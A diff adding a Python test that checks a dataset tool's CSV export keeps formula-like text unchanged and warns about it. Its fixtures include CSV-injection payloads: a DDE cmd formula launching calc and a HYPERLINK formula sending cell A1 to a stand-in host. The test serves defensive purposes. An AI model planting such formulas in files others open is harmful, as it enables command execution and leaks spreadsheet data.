@@ -461,3 +461,27 @@ def test_per_annotation_pairs_need_a_format_that_can_say_how_many_gave_each_dire
         weighted = build(pairs_project, format=fmt, pairs="per_annotation", with_agreement=True).export.manifest
         assert not [w for w in weighted["warnings"] if "per_annotation" in w], fmt
     assert not [w for w in build(pairs_project, format="openai-dpo").export.manifest["warnings"] if "per_annotation" in w]
+
+
+def test_a_csv_version_keeps_formula_like_text_exactly_and_warns_of_it(build, session, trainers):
+    """A trainer's critique or an item id can start with = or @: the dataset keeps it as written (a
+    training file must not change text) and the version says how many cells a spreadsheet would run."""
+    from app.services.spreadsheets import formula_cells
+
+    questions = [{"key": "note", "type": "text", "title": "Note", "options": {"min_chars": 0}}]
+    project = make_project(session, "labelling", [("=cmd|' /C calc'!A0", "Q", ["R"]), ("plain", "Q2", ["R2"])],
+                           questions=questions, slug="formulas", overlap=1)
+    with_members(session, project, trainers[:1])
+    annotate(session, trainers[0], project, {"=cmd|' /C calc'!A0": {"note": '=HYPERLINK("https://x.example/?"&A1)'},
+                                             "plain": {"note": "- a markdown list, -2.5 and @ mentions"}})
+    built = build(project, format="csv")
+    frame = pd.read_csv(built.folder / "train.csv", keep_default_na=False)
+    assert set(frame["answer_note"]) == {'=HYPERLINK("https://x.example/?"&A1)', "- a markdown list, -2.5 and @ mentions"}
+    assert "=cmd|' /C calc'!A0" in set(frame["item_id"])
+    assert formula_cells(frame) == 3
+    assert [w for w in built.export.manifest["warnings"] if "formulas" in w] == [
+        "3 text cells of train.csv start with =, +, -, @, a tab or a carriage return: a spreadsheet opening the file "
+        "would run them as formulas. The file keeps every text exactly as written; read it with pandas or datasets, "
+        "or import its columns as text."]
+    assert "run them as formulas" in (built.folder / "README.md").read_text()  # the card's warnings
+    assert not [w for w in build(project, format="raw").export.manifest["warnings"] if "formulas" in w]
